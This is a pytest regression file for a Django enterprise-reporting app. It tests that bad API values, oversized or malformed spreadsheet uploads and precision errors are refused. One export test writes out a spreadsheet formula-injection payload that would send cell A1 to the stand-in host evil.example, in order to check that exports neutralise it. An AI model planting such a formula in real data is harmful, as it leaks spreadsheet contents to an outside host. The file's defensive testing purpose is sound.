"""Inputs that once crashed, leaked or lost data, each kept as a test."""

import io
import json
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import Workbook, load_workbook

from parkbrain.registry.models import Assignment, Enterprise
from parkbrain.reporting import services, spreadsheets
from parkbrain.reporting.choices import Channel
from parkbrain.reporting.models import MonthlyReport, ReportRevision, ReportValue
from parkbrain.reporting.periods import last_complete_month
from parkbrain.reporting.spreadsheets import UploadRefused, read_upload, template_columns
from parkbrain.reporting.validation import IncomingRow

pytestmark = pytest.mark.django_db


def _put(client, firm, period, values, **extra):
    return client.put(
        f"/api/reports/{firm.credit_code}/{period}",
        data=json.dumps({"values": values, **extra}),
        content_type="application/json",
    )


def _save(firm, who, year, month, **values):
    return services.save_reports(
        [IncomingRow(firm.credit_code, year, month, values)], who, Channel.FORM
    )


def test_project_managers_cannot_write_reports_through_the_api(client, demo):
    client.force_login(demo.user("pm"))
    response = _put(client, demo.firms["gear"], "2026-03", {"output_value": 5}, submit=True)
    assert response.status_code == 403
    assert not MonthlyReport.objects.exists()
    with pytest.raises(services.ReportsRejected):
        _save(demo.firms["gear"], demo.user("pm"), 2026, 3, output_value=5)


@pytest.mark.parametrize(
    "body, status",
    [
        ({"output_value": True}, 422),  # a boolean is not a figure
        ({}, 400),  # a report with no figures
        ({"output_value": "NaN"}, 400),
        ({"output_value": "1e1000000"}, 400),
        ({"output_value": "1234567890123.4567"}, 400),  # 17 significant digits
        ({"output_value": "x" * 5000}, 400),
    ],
)
def test_bad_api_values_are_refused_not_crashed(client, demo, body, status):
    client.force_login(demo.user("gear"))
    assert _put(client, demo.firms["gear"], "2026-03", body).status_code == status
    assert not MonthlyReport.objects.exists()


def test_json_nan_is_refused(client, demo):
    client.force_login(demo.user("gear"))
    response = client.put(
        f"/api/reports/{demo.firms['gear'].credit_code}/2026-03",
        data='{"values": {"output_value": NaN}}',
        content_type="application/json",
    )
    assert response.status_code in (400, 422)
    assert not MonthlyReport.objects.exists()


def test_null_removes_a_value_with_history(client, demo):
    gear = demo.firms["gear"]
    client.force_login(demo.user("gear"))
    _put(client, gear, "2026-03", {"output_value": 5, "electricity": 50})
    response = _put(client, gear, "2026-03", {"electricity": None})
    assert response.json()["report"]["values"] == {"output_value": "5.0000"}
    latest = ReportRevision.objects.order_by("-id").first()
    assert latest.changes == {"electricity": ["50.0000", None]}


def test_emptying_a_form_field_removes_the_figure(client, demo):
    gear = demo.firms["gear"]
    _save(gear, demo.user("gear"), 2026, 3, output_value=5, electricity=50)
    client.force_login(demo.user("gear"))
    url = reverse("reporting:month", args=[gear.pk, 2026, 3])
    client.post(url, {"output_value": "5", "electricity": "", "action": "save"})
    assert list(ReportValue.objects.values_list("indicator__code", flat=True)) == ["output_value"]


def test_a_falling_figure_is_reported_at_its_form_field(client, demo):
    gear = demo.firms["gear"]
    _save(gear, demo.user("gear"), 2026, 1, output_value=5_000_000)
    client.force_login(demo.user("gear"))
    url = reverse("reporting:month", args=[gear.pk, 2026, 2])
    response = client.post(url, {"output_value": "400", "action": "save"})  # 万元
    fields = {f["indicator"].code: f for f in response.context["fields"]}
    assert "累计值不能下降" in fields["output_value"]["error"]


def test_standard_coal_is_not_derived_from_mismatched_months(demo):
    from parkbrain.reporting.compute import CoefficientTable

    gear = demo.firms["gear"]
    who = demo.user("analyst")
    _save(gear, who, 2026, 1, electricity=10_000, natural_gas=1_000)
    _save(gear, who, 2026, 2, electricity=20_000)  # gas not reported in February
    _save(gear, who, 2026, 3, electricity=30_000, natural_gas=3_000)
    monthly = services.monthly_by_report({gear.pk}, {2026}, CoefficientTable.load())
    assert monthly[(gear.pk, 2026, 1)]["energy_tce"] == Decimal("2.4433")  # 1.229 + 1.2143
    assert "energy_tce" not in monthly[(gear.pk, 2026, 2)]
    assert "energy_tce" not in monthly[(gear.pk, 2026, 3)]


def test_equal_value_before_its_first_year_shows_as_unknown(client, demo):
    gear = demo.firms["gear"]
    _save(gear, demo.user("analyst"), 2020, 1, output_value=1, electricity=1000)
    client.force_login(demo.user("analyst"))
    response = client.get(reverse("reporting:month", args=[gear.pk, 2020, 1]) + "?convention=equal")
    assert response.status_code == 200
    fields = {f["indicator"].code: f for f in response.context["fields"]}
    assert fields["energy_tce"]["month_value"] is None


def _workbook(rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_a_sheet_claiming_a_million_rows_is_refused_quickly(demo):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([c.header for c in template_columns()])
    sheet.cell(row=1_000_000, column=1, value="x")
    buffer = io.BytesIO()
    workbook.save(buffer)
    with translation.override("en"), pytest.raises(UploadRefused) as refused:
        read_upload("big.xlsx", buffer.getvalue())
    assert "more than 50000 rows" in str(refused.value)


def test_a_workbook_that_unpacks_too_large_is_refused(demo, monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 1000)
    with translation.override("en"), pytest.raises(UploadRefused) as refused:
        read_upload("t.xlsx", _workbook([[c.header for c in template_columns()]]))
    assert "unpacks to" in str(refused.value)


@pytest.mark.parametrize(
    "name, content",
    [
        (
            "t.csv",
            ("统一社会信用代码,年份,月份,用电量\n" + '"' + "x" * 200_000 + '",2026,1,1\n').encode(),
        ),
        ("t.xlsx", b"PK\x03\x04" + b"\0" * 100),
    ],
)
def test_malformed_files_are_refused_not_crashed(demo, name, content):
    with pytest.raises(UploadRefused):
        read_upload(name, content)


def test_truncated_sheet_xml_is_refused(demo):
    good = _workbook([[c.header for c in template_columns()], ["91", "x", 2026, 1, 5]])
    source = zipfile.ZipFile(io.BytesIO(good))
    broken = io.BytesIO()
    with zipfile.ZipFile(broken, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2]
            target.writestr(info, data)
    with pytest.raises(UploadRefused):
        read_upload("t.xlsx", broken.getvalue())


def test_superscript_digits_are_not_months(demo):
    gear = demo.firms["gear"]
    text = f"统一社会信用代码,年份,月份,用电量\n{gear.credit_code},2026,²,1\n"
    outcome = services.import_file("t.csv", text.encode(), demo.user("gear"))
    assert not outcome.record.saved
    assert outcome.problems[0].column == "月份"


def test_columns_given_twice_are_refused(demo):
    text = "统一社会信用代码,年份,月份,工业总产值（当年价格）,output_value\n91,2026,1,100,\n"
    with translation.override("en"), pytest.raises(UploadRefused) as refused:
        read_upload("t.csv", text.encode())
    assert "columns given twice" in str(refused.value)


def test_unfilled_template_rows_are_skipped_and_an_empty_file_refused(client, demo):
    client.force_login(demo.user("analyst"))
    template = client.get(reverse("reporting:template")).content
    with pytest.raises(UploadRefused):
        read_upload("t.xlsx", template)
    sheet_rows = list(load_workbook(io.BytesIO(template))["月报"].iter_rows(values_only=True))
    filled = [list(sheet_rows[0]), list(sheet_rows[1])] + [list(r) for r in sheet_rows[2:]]
    filled[1][4] = 1_000_000
    upload = read_upload("t.xlsx", _workbook(filled))
    assert len(upload.rows) == 1 and upload.skipped == len(sheet_rows) - 2


def test_exports_do_not_turn_names_into_formulas(client, demo):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    Enterprise.objects.filter(pk=demo.firms["ev"].pk).update(name=evil)
    client.force_login(demo.user("analyst"))
    export = client.get(reverse("reporting:completeness"), {"year": 2026, "export": "xlsx"})
    sheet = load_workbook(io.BytesIO(export.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
    csv_export = client.get(reverse("reporting:completeness"), {"year": 2026, "export": "csv"})
    assert "'" + evil.replace('"', '""') in csv_export.content.decode("utf-8-sig")
    client.force_login(demo.user("ev"))
    template = client.get(reverse("reporting:template")).content
    rows = list(load_workbook(io.BytesIO(template))["月报"].iter_rows(min_row=2))
    assert rows and rows[0][1].data_type == "s"


def test_reminder_list_names_only_current_project_managers(client, demo):
    from datetime import date

    gear = demo.firms["gear"]
    Assignment.objects.create(
        manager=demo.user("pm2"), enterprise=gear, since=date(2014, 1, 1), until=date(2016, 1, 1)
    )
    client.force_login(demo.user("analyst"))
    export = client.get(reverse("reporting:completeness"), {"year": 2026, "export": "xlsx"})
    rows = {
        r[0]: r
        for r in load_workbook(io.BytesIO(export.content)).active.iter_rows(values_only=True)
    }
    from parkbrain.core.people import person_name

    assert rows[gear.credit_code][4] == person_name(demo.user("pm"))


@pytest.mark.django_db(transaction=True)
def test_a_file_with_thousands_of_problems_lists_the_first_500(client, committed_demo, run_jobs):
    gear = committed_demo.firms["gear"]
    lines = ["统一社会信用代码,年份,月份,用电量"] + [
        f"{gear.credit_code},2026,1,x{i}" for i in range(1200)
    ]
    client.force_login(committed_demo.user("gear"))
    upload = SimpleUploadedFile("t.csv", "\n".join(lines).encode())
    response = client.post(reverse("reporting:upload"), {"file": upload})
    run_jobs()
    page = client.get(response["Location"])
    outcome = page.context["job"].outcome
    assert (len(outcome["problems"]), outcome["problem_count"]) == (500, 1200)
    assert "共 1200 个问题" in page.content.decode()


def test_figures_in_hand_give_the_same_months_as_the_database(demo):
    from parkbrain.reporting.compute import CoefficientTable
    from parkbrain.reporting.validation import validate

    gear = demo.firms["gear"]
    who = demo.user("analyst")
    _save(gear, who, 2025, 1, output_value=100, electricity=10_000)
    _save(gear, who, 2026, 1, output_value=120, electricity=12_000)
    row = IncomingRow(gear.credit_code, 2026, 2, {"output_value": 250, "electricity": 25_000})
    checked = validate([row], who, date(2026, 11, 26))
    assert not checked.problems
    table = CoefficientTable.load()
    in_hand = services.monthly_by_report({gear.pk}, {2025, 2026}, table, known=checked.after)
    _save(gear, who, 2026, 2, output_value=250, electricity=25_000)
    assert in_hand == services.monthly_by_report({gear.pk}, {2025, 2026}, table)
    assert in_hand[(gear.pk, 2026, 2)]["output_value"] == Decimal("130")


def test_the_collector_is_paused_only_inside_the_batch():
    import gc

    from parkbrain.core.bulk import collector_paused

    assert gc.isenabled()
    with pytest.raises(RuntimeError), collector_paused():
        assert not gc.isenabled()
        raise RuntimeError
    assert gc.isenabled()


@pytest.mark.parametrize("asked", ["-5", "1999", "2101", "9" * 20, "abc"])
def test_a_year_no_report_can_be_about_shows_the_default_year(client, demo, asked):
    client.force_login(demo.user("analyst"))
    default = last_complete_month(timezone.localdate())[0]
    for url in (
        reverse("reporting:enterprise", args=[demo.firms["gear"].pk]),
        reverse("reporting:completeness"),
    ):
        response = client.get(url, {"year": asked})
        assert response.status_code == 200, url
        assert response.context["year"] == default


def test_a_year_in_range_is_shown(client, demo):
    client.force_login(demo.user("analyst"))
    url = reverse("reporting:enterprise", args=[demo.firms["gear"].pk])
    assert client.get(url, {"year": "2021"}).context["year"] == 2021


def _last_month() -> str:
    year, month = last_complete_month(timezone.localdate())
    return f"{year}-{month:02d}"


@pytest.mark.parametrize(
    "code, sent, reason",
    [
        ("output_value", "1e-30", "单位为“元”的数值最多保留 2 位小数，四舍五入后将变为 0.00。"),
        ("output_value", 0.125, "单位为“元”的数值最多保留 2 位小数，四舍五入后将变为 0.13。"),
        ("electricity", 1234.5, "单位为“千瓦时”的数值须为整数，四舍五入后将变为 1235。"),
        ("coal", "12.3456", "单位为“吨”的数值最多保留 3 位小数，四舍五入后将变为 12.346。"),
    ],
)
def test_a_figure_with_more_places_than_its_indicator_keeps_is_refused(
    client, demo, code, sent, reason
):
    client.force_login(demo.user("gear"))
    response = _put(client, demo.firms["gear"], _last_month(), {code: sent})
    assert response.status_code == 400
    assert response.json()["errors"] == [
        {"row": None, "column": code, "value": str(sent), "reason": reason}
    ]
    assert not ReportValue.objects.exists()


def test_trailing_zeros_and_exponents_are_not_extra_places(client, demo):
    client.force_login(demo.user("gear"))
    sent = {"output_value": "1500000.500", "electricity": "8.2e4", "coal": 12.5}
    response = _put(client, demo.firms["gear"], _last_month(), sent)
    assert response.status_code == 201, response.json()
    assert response.json()["report"]["values"] == {
        "output_value": "1500000.5000",
        "electricity": "82000.0000",
        "coal": "12.5000",
    }
